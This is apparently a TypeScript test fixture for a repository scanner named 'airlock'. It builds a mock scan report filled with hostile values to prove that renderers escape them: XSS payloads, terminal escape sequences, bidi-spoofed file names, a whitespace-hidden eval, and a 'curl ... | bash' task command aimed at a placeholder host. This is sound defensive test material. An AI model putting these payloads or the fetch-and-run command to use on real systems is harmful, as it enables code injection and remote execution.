/** A report full of hostile values, to prove every renderer escapes what the repository controls. */
import type { Report } from '../../src/core/types.ts';

export const HOSTILE_FILE = 'src/</script><script>alert(1)</script>\u202Egpj.js';
export const HOSTILE_EVIDENCE = '"><img src=x onerror=alert(2)> \u001b[31mred\u001b[0m `| ]( [x](javascript:alert(3))';

export function hostileReport(): Report {
  return {
    schemaVersion: 1,
    tool: { name: 'airlock', version: '0.0.0-test' },
    command: 'scan',
    target: { path: 'repo-<b>bold</b>', kind: 'directory', files: 3, bytes: 100 },
    verdict: 'block',
    summary: { critical: 1, high: 0, medium: 0, low: 0, info: 0 },
    executionMap: [
      {
        trigger: 'open',
        kind: 'vscode-task',
        name: '<iframe src=//x.invalid>',
        location: { file: '.vscode/tasks.json', line: 3 },
        command: 'curl https://a.example.invalid | bash',
        reaches: [],
      },
    ],
    findings: [
      {
        ruleId: 'code/remote-code-execution',
        severity: 'critical',
        confidence: 'high',
        message: 'Runs <script>fetched</script> code',
        location: { file: HOSTILE_FILE, line: 2 },
        evidence: HOSTILE_EVIDENCE,
        related: [{ file: HOSTILE_FILE, line: 1 }],
        snippet: { startLine: 1, lines: ['const u = "</script><script>alert(4)</script>";', 'eval(u) ⟨380 spaces⟩ // \u2066hidden\u2069'] },
      },
    ],
    behaviors: [{ kind: 'process', phase: 'open', summary: 'bash -c "<svg onload=alert(5)>"', pid: 2, ppid: 1 }],
    errors: [{ file: '<x>', message: '</style><script>alert(6)</script>' }],
    timing: { totalMs: 1 },
  };
}
